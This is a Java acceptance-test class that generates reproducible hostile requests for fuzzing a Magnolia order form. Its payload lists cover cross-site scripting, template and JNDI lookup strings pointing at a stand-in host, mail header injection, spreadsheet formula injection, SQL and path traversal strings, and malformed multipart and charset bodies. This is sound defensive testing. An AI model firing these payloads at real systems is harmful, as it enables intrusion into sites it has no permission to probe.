package nl.vpng.acceptance;

import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;

/**
 * Makes up what a hostile program could send to the order form. The same number always gives the same request, so that one that does
 * harm can be sent again. Each text in it holds {@link #MARK}, and each order that it could become has a mail address at
 * {@link #DOMAIN}.
 */
final class HostileOrders {

    /** Stands in whatever must not come back as markup, an address or a header. */
    static final String MARK = "vijand";

    static final String DOMAIN = "@vijandig.example";

    private static final long SEED = 20_260_101;

    /** Few enough orders for those who look at the orders afterwards, enough to meet each kind. */
    private static final int ONE_IN_SO_MANY_IS_COMPLETE = 8;

    private static final List<String> TEXTS = List.of(
            "<script>vijand(1)</script>",
            "\"><img src=vijand onerror=vijand(1)>",
            "' autofocus onfocus='vijand(1)",
            "\" autofocus onfocus=\"vijand(1)",
            "</textarea></select><svg/onload=vijand(1)>",
            "</title><base href=//vijandig.example/><!--",
            "<iframe srcdoc='<script>vijand(1)</script>'>",
            "<![CDATA[<vijand onclick=a()>]]>",
            "&lt;vijand&gt; &#60;vijand&#62; &vijand;",
            "javascript:vijand(1)",
            "${7*7} #{7*7} [=7*7] <#assign vijand=1> [#assign vijand=1][@vijand /]",
            "${jndi:ldap://vijandig.example/a}",
            "vijand\r\nBcc: ook@vijandig.example\r\n\r\nvijand",
            "vijand\nX-Vijand: 1",
            "vijand%0d%0aX-Vijand:%201",
            "vijand\u2028\u2029\u0085\u000bvijand",
            "\u0000vijand\u0000",
            "\u0001\b\u001b[31mvijand\u007f",
            "\ufeffvijand\ufffe\uffff",
            "\u202edjiv\u202c \u2066vijand\u2069 \u200b\u200d",
            "👩‍👩‍👧‍👦🏴‍☠️ vijand 𝕧𝕚𝕛",
            "e\u0308e\u0308n vijand " + "\u0301".repeat(60),
            "مرحبا vijand שלום",
            "=HYPERLINK(\"http://vijandig.example\")",
            "+cmd|' /C vijand'!A0",
            "@SUM(vijand)",
            "-1+vijand",
            "\t=vijand",
            "'; DROP TABLE vijand; --",
            "') or jcr:contains(., 'vijand",
            "../../../../etc/vijand",
            "/jcr:root//*[@vijand]",
            "http://vijandig.example/ www.vijandig.example",
            "",
            " \t \r\n ");

    private static final List<String> NUMBERS = List.of(
            "0", "-1", "1e3", "0x1", "+1", "1.0", " 1 ", "٣", "1\u0000", "99999999999999999999", "NaN", "1;vijand", "");

    private static final List<String> ADDRESSES = List.of(
            "a@vijandig.example\r\nBcc: b@vijandig.example",
            "a@vijandig.example,b@vijandig.example",
            "Vijand <a@vijandig.example>",
            "\"vijand\"@vijandig.example",
            "a@b@vijandig.example",
            "ë@vijandig.example",
            "a..b@vijandig.example",
            "a@[127.0.0.1]",
            "a@vijandig",
            "a@vijandig.example\u0000",
            "a\u202e@vijandig.example",
            "-oQ/tmp@vijandig.example",
            "=1+1@vijandig.example",
            "x".repeat(300) + DOMAIN);

    private static final List<String> POSTAL_CODES =
            List.of("0000 AA", "1234", "1234 SS", "12 34 a b", "1234\u0000AB", "१२३४ AB", "1234 AB vijand");

    private static final List<String> CONTENT_TYPES = List.of(
            "text/plain",
            "application/json",
            "text/xml",
            "application/octet-stream",
            "vijand",
            "application/x-www-form-urlencoded; charset=vijand",
            "application/x-www-form-urlencoded; charset=",
            "application/x-www-form-urlencoded; charset=\"",
            "APPLICATION/X-WWW-FORM-URLENCODED;charset=utf-8;charset=utf-16");

    private static final List<String> ORIGINS = List.of(
            "https://vijandig.example",
            "null",
            "vijand",
            "http://127.0.0.1:1",
            "file://",
            "http://[vijand",
            "https://vijandig.example/<script>");

    private static final List<String> CROOKED_PARTS = List.of(
            "; filename=\"../<vijand>.exe\"\r\nContent-Type: text/html",
            "; filename=\"\"",
            "; name=\"remarks\"",
            "\r\nX-Vijand: 1\r\nContent-Transfer-Encoding: base64",
            "\r\nContent-Type: text/plain; charset=vijand",
            "\r\nX-Vijand: " + "1".repeat(20_000));

    private static final List<Charset> CHARSETS_LIKE_ASCII =
            List.of(StandardCharsets.ISO_8859_1, Charset.forName("windows-1252"));

    /** In these Magnolia cannot read which component takes the form. */
    private static final List<Charset> WIDE_CHARSETS = List.of(StandardCharsets.UTF_16, StandardCharsets.UTF_16LE);

    private static final List<String> METHODS = List.of("PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "VIJAND", "GET");

    private static final List<String> BROKEN =
            List.of("%", "%zz", "%4", "%u0041", "%C3", "%ED%A0%80", "%00", "%FF", "&&=&", "+%");

    private static final String EXECUTION = "mgnlModelExecutionUUID";

    private final Map<String, String> hidden;
    private final String publication;
    private final boolean atThisHost;

    /**
     * @param hidden the form's hidden fields except its key
     * @param publication can be ordered
     * @param atThisHost whether to send also what Magnolia itself answers with status 500, wherever it is sent to
     */
    HostileOrders(Map<String, String> hidden, String publication, boolean atThisHost) {
        this.hidden = Map.copyOf(hidden);
        this.publication = publication;
        this.atThisHost = atThisHost;
    }

    /**
     * A request.
     *
     * @param query behind the address of the form, with its question mark; may be empty
     * @param contentType may be empty
     * @param origin the page that it says to come from; may be empty
     */
    record Attack(String kind, String method, String query, String contentType, String origin, BodyPublisher body) {}

    private record Field(String name, String value) {}

    /**
     * Returns a request.
     *
     * @param key of a form that was not sent yet, with the name of its field
     */
    Attack attack(int number, Map.Entry<String, String> key) {
        Random random = new Random(SEED + number);
        List<Field> fields = complete(random);
        Field good = new Field(key.getKey(), key.getValue());
        return switch (number % 16) {
            case 0, 1, 2 -> form("text", key(poisoned(fields, random), good));
            case 3 -> form("missing", key(missing(fields, random), good));
            case 4 -> form("repeated", key(repeated(fields, random), good));
            case 5 -> form("huge", key(huge(fields, number, random), good));
            case 6 -> charset(key(poisoned(fields, random), good), random);
            case 7 -> broken(key(fields, good), random);
            case 8 -> typed(one(CONTENT_TYPES, random), key(fields, good));
            case 9 -> method(one(METHODS, random), key(poisoned(fields, random), good));
            case 10 -> form("key", key(fields, new Field(good.name(), wrongKey(good.value(), random))));
            case 11 -> origin(key(fields, good), random);
            case 12 -> multipart(key(poisoned(fields, random), good), random);
            case 13 -> form("execution", execution(key(fields, good), random));
            case 14 -> form("many", many(key(fields, good), random));
            default -> noise(random);
        };
    }

    /** Returns what leads to each page that the form answers with: not filled in, filled in wrongly, unreadable, complete. */
    List<Attack> honest(Map.Entry<String, String> key) {
        Field good = new Field(key.getKey(), key.getValue());
        List<Field> fields = new ArrayList<>(complete(new Random(SEED)));
        List<Field> empty = fields.stream()
                .map(field -> hidden.containsKey(field.name()) ? field : new Field(field.name(), ""))
                .toList();
        fields.add(new Field("privacy", "true"));
        List<Field> wrong = fields.stream()
                .map(field -> field.name().equals("remarks") ? new Field(field.name(), "x".repeat(3_000)) : field)
                .toList();
        return List.of(
                form("empty", key(empty, good)),
                form("wrong", key(wrong, good)),
                post("unreadable", "name=%00"),
                form("complete", key(fields, good)));
    }

    /**
     * Mostly without consent, so that it comes back and shows what was typed; now and then it can be stored, and then it mostly has
     * the hidden field filled in, so that few mails go out.
     */
    private List<Field> complete(Random random) {
        List<Field> fields = new ArrayList<>();
        hidden.forEach((name, value) -> fields.add(new Field(name, value)));
        Map<String, String> typed = new LinkedHashMap<>();
        typed.put("publication", publication);
        typed.put("quantity", "1");
        typed.put("name", "Vijand " + random.nextInt(1_000_000));
        typed.put("organisation", "");
        typed.put("email", "proef" + DOMAIN);
        typed.put("street", "Vijandstraat 1");
        typed.put("postalCode", "1234 AB");
        typed.put("city", "Vijandrecht");
        typed.put("country", random.nextInt(4) == 0 ? "België" : "");
        typed.put("remarks", "vijand");
        typed.forEach((name, value) -> fields.add(new Field(name, value)));
        if (random.nextInt(ONE_IN_SO_MANY_IS_COMPLETE) == 0) {
            fields.add(new Field("privacy", "true"));
            fields.add(new Field("onderwerp", random.nextInt(4) == 0 ? "" : MARK));
        }
        return fields;
    }

    private List<Field> poisoned(List<Field> fields, Random random) {
        List<Field> poisoned = new ArrayList<>(fields);
        for (int i = 0; i <= random.nextInt(3); i++) {
            int at = hidden.size() + random.nextInt(fields.size() - hidden.size());
            String name = fields.get(at).name();
            poisoned.set(at, new Field(name, poison(name, random)));
        }
        if (random.nextInt(20) == 0) {
            poisoned.add(new Field("onderwerp", one(TEXTS, random)));
        }
        if (random.nextInt(20) == 0) {
            poisoned.add(new Field("field", one(TEXTS, random)));
        }
        return poisoned;
    }

    private static String poison(String name, Random random) {
        if (random.nextInt(10) == 0) {
            return MARK
                    + random.ints(1 + random.nextInt(60), 0, 0x11000)
                            .filter(point -> point < 0xd800 || point > 0xdfff)
                            .mapToObj(Character::toString)
                            .collect(Collectors.joining());
        }
        boolean own = random.nextBoolean();
        return switch (name) {
            case "quantity" -> one(own ? NUMBERS : TEXTS, random);
            case "email" -> one(own ? ADDRESSES : TEXTS, random);
            case "postalCode" -> one(own ? POSTAL_CODES : TEXTS, random);
            default -> own ? one(TEXTS, random) : one(TEXTS, random) + " " + one(TEXTS, random);
        };
    }

    private static List<Field> missing(List<Field> fields, Random random) {
        return fields.stream().filter(field -> random.nextInt(4) != 0).toList();
    }

    private List<Field> repeated(List<Field> fields, Random random) {
        List<Field> repeatable = changeable(fields);
        List<Field> repeated = new ArrayList<>(fields);
        for (int i = 0; i <= random.nextInt(4); i++) {
            Field field = one(repeatable, random);
            repeated.add(
                    random.nextInt(repeated.size()),
                    new Field(field.name(), random.nextBoolean() ? field.value() : one(TEXTS, random)));
        }
        return repeated;
    }

    /** Most are a little too long; some are more than any server should read. */
    private List<Field> huge(List<Field> fields, int number, Random random) {
        int times = number % 10 == 5 ? 400_000 : 1 << (4 + random.nextInt(9));
        List<Field> huge = new ArrayList<>(fields);
        int at = fields.indexOf(one(changeable(fields), random));
        huge.set(at, new Field(fields.get(at).name(), (random.nextBoolean() ? "vijand" : "vij€nd👩").repeat(times)));
        return huge;
    }

    private Attack charset(List<Field> fields, Random random) {
        Charset charset = one(atThisHost && random.nextBoolean() ? WIDE_CHARSETS : CHARSETS_LIKE_ASCII, random);
        String announced = random.nextBoolean() ? "; charset=" + charset.name() : "";
        String text = random.nextBoolean() ? encoded(fields, charset) : plain(fields);
        return new Attack(
                "charset",
                "POST",
                "",
                "application/x-www-form-urlencoded" + announced,
                "",
                BodyPublishers.ofByteArray(readable(text.getBytes(charset))));
    }

    /** Breaks the body anywhere but in what must stay as it is. */
    private Attack broken(List<Field> fields, Random random) {
        StringBuilder body = new StringBuilder(encoded(changeable(fields), StandardCharsets.UTF_8));
        for (int i = 0; i <= random.nextInt(3); i++) {
            body.insert(random.nextInt(body.length()), one(BROKEN, random));
        }
        List<Field> whole =
                fields.stream().filter(field -> !mayBeAnything(field)).toList();
        return post("broken", body + (whole.isEmpty() ? "" : "&" + encoded(whole, StandardCharsets.UTF_8)));
    }

    private static Attack typed(String contentType, List<Field> fields) {
        return new Attack("type", "POST", "", contentType, "", bytes(encoded(fields, StandardCharsets.UTF_8)));
    }

    private static Attack method(String method, List<Field> fields) {
        String sent = encoded(fields, StandardCharsets.UTF_8);
        boolean inAddress = method.equals("GET") || method.equals("HEAD");
        return new Attack(
                "method",
                method,
                inAddress ? "?publicatie=" + MARK + "&bevestiging=" + MARK + ".x&" + sent : "",
                "application/x-www-form-urlencoded",
                "",
                bytes(inAddress ? "" : sent));
    }

    private static String wrongKey(String key, Random random) {
        char[] flipped = key.toCharArray();
        int at = random.nextInt(flipped.length);
        flipped[at] = flipped[at] == 'A' ? 'B' : 'A';
        return one(
                List.of(
                        String.valueOf(flipped),
                        key.substring(0, random.nextInt(key.length())),
                        key + key,
                        key.replace('.', ' '),
                        "." + key,
                        "MjAyMDAxMDEtMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAgMQ.AAAAAAAAAAAAAAAAAAAAAA",
                        one(TEXTS, random),
                        "vijand".repeat(1_000)),
                random);
    }

    private static Attack origin(List<Field> fields, Random random) {
        return new Attack(
                "origin",
                "POST",
                "?publicatie=" + URLEncoder.encode(one(TEXTS, random), StandardCharsets.UTF_8),
                "application/x-www-form-urlencoded",
                one(ORIGINS, random),
                bytes(encoded(fields, StandardCharsets.UTF_8)));
    }

    private Attack multipart(List<Field> fields, Random random) {
        String boundary = "vijand" + random.nextInt(1_000);
        StringBuilder body = new StringBuilder();
        int crooked = random.nextInt(fields.size() * 2);
        for (int i = 0; i < fields.size(); i++) {
            body.append("--" + boundary + "\r\nContent-Disposition: form-data; name=\""
                    + fields.get(i).name() + "\"");
            if (i == crooked && mayBeAnything(fields.get(i))) {
                body.append(one(crookedParts(), random));
            }
            body.append("\r\n\r\n" + fields.get(i).value() + "\r\n");
        }
        boolean whole = !atThisHost || random.nextInt(3) != 0;
        if (whole) {
            body.append("--" + boundary + "--\r\n");
        }
        String announced = whole || random.nextBoolean() ? "; boundary=" + boundary : "";
        return new Attack("multipart", "POST", "", "multipart/form-data" + announced, "", bytes(body.toString()));
    }

    /** Magnolia stumbles over too long a header. */
    private List<String> crookedParts() {
        return atThisHost ? CROOKED_PARTS : CROOKED_PARTS.subList(0, CROOKED_PARTS.size() - 1);
    }

    /** Which component takes the form: another one, none, or nonsense. */
    private List<Field> execution(List<Field> fields, Random random) {
        List<String> wrong = List.of(one(TEXTS, random), "00000000-0000-4000-8000-000000000000", "vijand", "");
        return fields.stream()
                .filter(this::mayBeAnything)
                .map(field -> field.name().equals(EXECUTION) ? new Field(field.name(), one(wrong, random)) : field)
                .toList();
    }

    private static List<Field> many(List<Field> fields, Random random) {
        List<Field> many = new ArrayList<>(fields);
        int count = one(List.of(50, 500, 1_500, 5_000), random);
        int at = random.nextInt(fields.size());
        for (int i = 0; i < count; i++) {
            many.add(at, new Field(random.nextBoolean() ? MARK + i : "vijand[" + i + "][a][b].c", MARK));
        }
        return many;
    }

    /** Whether Magnolia answers properly too where the field comes twice, or says something else or too much. */
    private boolean mayBeAnything(Field field) {
        return atThisHost || !field.name().equals(EXECUTION);
    }

    /** Returns the fields that may come twice, or as something else than was meant. */
    private List<Field> changeable(List<Field> fields) {
        return fields.stream().filter(this::mayBeAnything).toList();
    }

    /** Magnolia takes a name for an expression, and stumbles where it ends within brackets. */
    private byte[] readable(byte... body) {
        if (!atThisHost) {
            for (int at = 0; at < body.length; at++) {
                body[at] = body[at] == '(' || body[at] == '[' ? (byte) 'x' : body[at];
            }
        }
        return body;
    }

    private Attack noise(Random random) {
        byte[] body = new byte[random.nextInt(4_000)];
        random.nextBytes(body);
        return new Attack(
                "noise",
                "POST",
                "",
                "application/x-www-form-urlencoded",
                "",
                BodyPublishers.ofByteArray(readable(body)));
    }

    private static List<Field> key(List<Field> fields, Field key) {
        List<Field> all = new ArrayList<>(fields);
        all.add(key);
        return all;
    }

    private static Attack form(String kind, List<Field> fields) {
        return post(kind, encoded(fields, StandardCharsets.UTF_8));
    }

    private static Attack post(String kind, String body) {
        return new Attack(kind, "POST", "", "application/x-www-form-urlencoded", "", bytes(body));
    }

    private static String encoded(List<Field> fields, Charset charset) {
        return fields.stream()
                .map(field ->
                        URLEncoder.encode(field.name(), charset) + "=" + URLEncoder.encode(field.value(), charset))
                .collect(Collectors.joining("&"));
    }

    private static String plain(List<Field> fields) {
        return fields.stream().map(field -> field.name() + "=" + field.value()).collect(Collectors.joining("&"));
    }

    private static BodyPublisher bytes(String text) {
        return BodyPublishers.ofByteArray(text.getBytes(StandardCharsets.UTF_8));
    }

    private static <T> T one(List<T> list, Random random) {
        return list.get(random.nextInt(list.size()));
    }
}
